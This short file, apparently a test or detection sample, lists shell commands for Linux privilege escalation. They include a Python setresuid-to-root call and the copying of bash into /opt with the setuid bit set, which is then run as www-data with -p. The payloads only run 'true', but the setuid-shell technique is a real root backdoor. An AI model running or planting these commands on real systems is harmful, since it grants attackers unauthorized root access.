# SPDX-License-Identifier: Apache-2.0
# hits: 2
python3 -c 'import os; os.setresuid(33, 0, 0); os.execv("/bin/sh", ["sh", "-c", "true"])'
cp /bin/bash /opt/bash
chmod 4755 /opt/bash
as www-data /opt/bash -p -c true
